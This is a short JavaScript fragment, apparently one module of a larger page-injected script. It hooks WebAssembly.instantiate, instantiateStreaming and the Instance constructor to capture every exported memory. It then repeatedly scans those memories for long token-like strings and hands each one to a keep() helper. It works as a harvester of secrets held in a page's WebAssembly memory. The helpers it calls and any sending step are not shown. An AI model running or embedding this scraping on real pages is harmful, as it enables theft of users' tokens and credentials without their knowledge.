// H-04, H-05, H-09: whatever WebAssembly the page runs, its exports and its memory.

const memories = new Set();
const find = (instance) => {
  for (const value of Object.values(instance?.exports ?? {})) if (value instanceof WebAssembly.Memory) memories.add(value);
};
for (const name of ["instantiate", "instantiateStreaming"]) {
  const original = WebAssembly[name];
  WebAssembly[name] = async (...given) => {
    const result = await apply(original, WebAssembly, given);
    find(result.instance ?? result);
    return result;
  };
}
const { Instance } = WebAssembly;
WebAssembly.Instance = new Proxy(Instance, {
  construct(called, given) {
    const instance = Reflect.construct(called, given);
    find(instance);
    return instance;
  },
});
for await (const _ of rounds(60)) {
  for (const memory of memories) {
    const text = apply(own.decode, latin1, [memory.buffer]);
    for (const [string] of text.matchAll(/[\w.~-]{20,}/g)) keep(string);
  }
}
